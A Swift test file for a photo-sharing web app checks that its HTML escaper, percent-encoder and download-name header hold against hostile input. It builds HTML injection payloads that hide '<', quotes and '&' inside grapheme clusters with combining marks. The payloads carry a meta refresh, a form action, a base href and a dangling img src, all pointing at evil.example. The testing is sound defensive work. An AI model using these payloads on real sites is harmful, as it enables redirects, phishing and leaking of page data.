import Foundation
import PTKHTTP
import PTKLibrary
import PTKPhotoPages
import PTKProtocol
import PTKSystem
import PTKTestTags
import PTKVocabulary
import PTKWeb
import Testing

/// Texts built to slip markup past an escaper that walks Characters (grapheme clusters): `<`,
/// `>`, `"`, `'` and `&` with a mark `m` on each side: a combining acute (U+0301), a prepended
/// concatenation mark (U+0600), a zero-width joiner, a variation selector (U+FE0F) or a
/// right-to-left override (U+202E). "\u{600}<" and ">\u{301}" are single Characters equal to
/// neither "<" nor ">": a tag, a `<meta http-equiv=refresh>`, a `<form>`, a `<base>`, an
/// attribute after a closing quote, or a dangling `<img src='...` would reach the page.
enum HostileText {
    static let marks = ["\u{301}", "\u{600}", "\u{200D}", "\u{FE0F}", "\u{202E}"]

    /// One hostile text per mark; `i` tells apart the attributes each would add.
    static func text(_ m: String, _ i: Int = 0) -> String {
        "x\u{600}<b id=pwn\(i)>\(m) "
            + "\(m)\"\(m) data-pwn\(i)=1 x=\(m)\"\(m) "
            + "\(m)'\(m) data-q\(i)='\(m) "
            + "&\(m)amp;\(m)&\(m)lt\(m); &\u{301} "
            + "\u{600}</textarea>\(m)\u{600}</title>\(m)\u{600}<meta http-equiv=refresh content=0;url=//evil.example/>\(m) "
            + "\u{600}<form action=//evil.example>\(m)\u{600}<base href=//evil.example/>\(m) "
            + "\(m)<\(m)i\(m)>\(m) \u{600}<img src='//evil.example/?\(m)"
    }

    static var all: [String] { marks.enumerated().map { text($0.element, $0.offset) } }

    /// The same text made harmless, keeping its shape (its "/", its ending, its marks): each of
    /// < > " ' & becomes "_".
    static func harmless(_ s: String) -> String {
        var out = String.UnicodeScalarView()
        for u in s.unicodeScalars { out.append(["<", ">", "\"", "'", "&"].contains(u) ? "_" : u) }
        return String(out)
    }
}

/// What Python's html.parser finds in each page (Tests/Fixtures/html/structure.py): a line
/// per start tag with its attributes' names, end tag, comment or declaration.
func htmlStructure(_ pages: [String]) throws -> [[String]] {
    let root = "/" + #filePath.split(separator: "/").dropLast(3).joined(separator: "/")
    let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ptk-html-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: dir) }
    var files: [String] = []
    for (i, page) in pages.enumerated() {
        let file = dir.appendingPathComponent("\(i).html")
        try Data(page.utf8).write(to: file)
        files.append(file.path)
    }
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = ["python3", root + "/Tests/Fixtures/html/structure.py"] + files
    let pipe = Pipe()
    process.standardOutput = pipe
    try process.run()
    let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    process.waitUntilExit()
    guard process.terminationStatus == 0 else { throw HTMLParserFailed(output: output) }
    var out: [[String]] = []
    for line in output.split(separator: "\n") {
        if line.hasPrefix("=== ") { out.append([]) } else if !out.isEmpty { out[out.count - 1].append(String(line)) }
    }
    guard out.count == pages.count else { throw HTMLParserFailed(output: output) }
    return out
}

struct HTMLParserFailed: Error { var output: String }

@Suite("Hostile texts in the web pages", .tags(.unit))
struct HostileTextTests {
    /// Every page WebPages renders, with `t(k)` giving the text of field k.
    static func pages(_ t: (Int) -> String) -> [String] {
        let pages = WebPages(receiver: t(0), fingerprint: "ab12cd")
        let viewer = WebPages.Viewer(name: t(1), csrf: t(2))
        func photo(_ id: Int64, _ name: String, thumbnail: Bool) -> Photo {
            var p = Photo(id: id, name: name, size: 1000, received: WallTime(seconds: 1_700_000_000))
            p.width = 400
            p.height = 200
            p.bitDepth = 8
            p.colorType = 2
            p.interlace = 0
            p.indexed = true
            p.hasThumbnail = thumbnail
            p.sha256 = t(3)
            p.note = t(4)
            p.senderName = t(5)
            p.senderAddress = t(6)
            p.senderID = t(7)
            p.cameraMake = t(8)
            p.cameraModel = t(9)
            p.taken = "2024-05-06T07:08:09" + t(10)
            p.problem = t(11)
            p.rating = 3
            p.hasLocation = true
            return p
        }
        // In a folder (a section titled by it), with and without a thumbnail, and a HEIC (shown by its thumbnail).
        let a = photo(1, t(12) + "/" + t(13) + ".png", thumbnail: true)
        let b = photo(2, t(14) + ".jpg", thumbnail: false)
        let c = photo(3, t(15) + "/" + t(16) + ".heic", thumbnail: true)
        let sections = WebPhoto.grouped([a, b, c].map(WebPhoto.init))
        func previewed(_ p: Photo) -> WebPhoto {
            var w = WebPhoto(p)
            w.hasPreview = true
            return w
        }
        return [
            pages.gallery(
                sections, firstContinues: false, matching: 3, total: 3, senders: [t(5), t(17)], sender: t(17),
                minRating: 2, more: t(20), viewer: viewer),
            pages.photo(WebPhoto(a), details: a.details(thumbnailFolder: t(18)), viewer: viewer, message: t(19)),
            pages.photo(WebPhoto(b), details: b.details(thumbnailFolder: t(18)), viewer: viewer),
            pages.photo(WebPhoto(c), details: c.details(thumbnailFolder: t(18)), viewer: viewer),
            pages.photo(previewed(c), details: c.details(thumbnailFolder: t(18)), viewer: viewer),
            pages.view(
                WebPhoto(a), details: a.details(thumbnailFolder: t(18)), previous: WebPhoto(b), next: previewed(c),
                filters: WebPages.filterQuery(sender: t(17), minRating: 2), viewer: viewer),
            pages.view(
                previewed(c), details: c.details(thumbnailFolder: t(18)), previous: WebPhoto(a), next: nil, filters: "",
                viewer: viewer),
            pages.confirmDelete(WebPhoto(a), viewer: viewer),
            pages.confirmDelete(WebPhoto(b), viewer: viewer),
            pages.upload(types: PhotoType.allCases, maxFileSize: 50 << 20, viewer: viewer),
            pages.login(hasPassword: true, message: t(20)),
            pages.login(hasPassword: false, message: t(21)),
            pages.error(t(22), viewer: viewer),
            pages.error(t(23), viewer: nil),
        ]
    }

    @Test(
        "every page, with hostile texts in every field, has exactly the elements and attributes it has with harmless texts",
        arguments: HostileText.marks.indices)
    func everyPageEveryField(mark: Int) throws {
        // Each field gets a hostile text of its own (ids apart), all built around one mark.
        let text = { (k: Int) in HostileText.text(HostileText.marks[mark], k) }
        let hostile = Self.pages(text)
        let harmless = Self.pages { HostileText.harmless(text($0)) }
        let structure = try htmlStructure(hostile + harmless)
        for i in hostile.indices {
            let (found, wanted) = (structure[i], structure[hostile.count + i])
            #expect(
                found == wanted,
                "page \(i) with mark U+\(String(HostileText.marks[mark].unicodeScalars.first!.value, radix: 16)): \(Set(found).subtracting(wanted).sorted())"
            )
            #expect(
                !found.contains {
                    $0.contains("pwn") || $0.contains("data-q") || $0.contains("\"base\"")
                        || $0.contains("\"form\", [\"action\"]")
                })
            #expect(found.count > 10, "the parser saw the page")
        }
    }

    @Test(
        "escapeHTML writes no raw < > \" ' and no & but its own entities, and gives back the text when unescaped",
        arguments: HostileText.all + [
            "", "&", "&amp;", "<>\"'&", "\u{600}<", ">\u{301}", "\"\u{301}", "'\u{200D}", "&\u{FE0F}",
            "\u{202E}<\u{202E}",
            "\u{1F469}\u{200D}\u{1F4BB}<", "<\u{1F3FB}", "\u{1100}\u{1161}<", "\r\n<", "\u{37E}",
        ])
    func escaper(text: String) {
        let escaped = escapeHTML(text)
        #expect(!escaped.unicodeScalars.contains { ["<", ">", "\"", "'"].contains($0) }, "\(escaped.debugDescription)")
        #expect(ampersandsStartEntities(escaped), "\(escaped.debugDescription)")
        #expect(unescape(escaped) == text)
        #expect(unescape(escaped).unicodeScalars.elementsEqual(text.unicodeScalars))
    }

    @Test("percentEncode writes only unreserved ASCII and %XX, whatever joins the characters")
    func percent() {
        for text in HostileText.all + ["a/\u{301}b", "?\u{301}", "#\u{600}", "%\u{301}41"] {
            let encoded = percentEncode(text)
            #expect(
                encoded.utf8.allSatisfy { $0 < 0x80 && ($0.isUnreservedASCII || $0 == UInt8(ascii: "%")) }, "\(encoded)"
            )
            #expect(encoded.removingPercentEncoding == text)
        }
    }

    @Test("a download's name keeps no quote, slash or line break next to a mark, and only its last component")
    func attachmentNames() {
        let header = attachment("a/\u{301}b\"\u{301}\r\u{301}\n;\u{301}x.png")
        #expect(
            header
                == "attachment; filename=\"_b_______x.png\"; filename*=UTF-8''%CC%81b%22%CC%81%0D%CC%81%0A%3B%CC%81x.png"
        )
        #expect(cookies("a=1;\u{301}b=2; c=3\u{37E}d=4") == ["a": "1", "\u{301}b": "2", "c": "3\u{37E}d=4"])
    }

    func ampersandsStartEntities(_ s: String) -> Bool {
        let scalars = Array(s.unicodeScalars)
        for (i, u) in scalars.enumerated() where u == "&" {
            let rest = String(String.UnicodeScalarView(scalars[i...].prefix(6)))
            guard
                ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"].contains(where: {
                    rest.unicodeScalars.starts(with: $0.unicodeScalars)
                })
            else { return false }
        }
        return true
    }

    func unescape(_ s: String) -> String {
        var out = String.UnicodeScalarView()
        var rest = Substring(s).unicodeScalars[...]
        let entities: [(String, Unicode.Scalar)] = [
            ("&amp;", "&"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"),
        ]
        while let u = rest.first {
            if u == "&", let (entity, scalar) = entities.first(where: { rest.starts(with: $0.0.unicodeScalars) }) {
                out.append(scalar)
                rest = rest.dropFirst(entity.unicodeScalars.count)
            } else {
                out.append(u)
                rest = rest.dropFirst()
            }
        }
        return String(out)
    }
}

extension UInt8 {
    var isUnreservedASCII: Bool {
        (0x41...0x5A).contains(self) || (0x61...0x7A).contains(self) || (0x30...0x39).contains(self)
            || [0x2D, 0x2E, 0x5F, 0x7E].contains(self)
    }
}
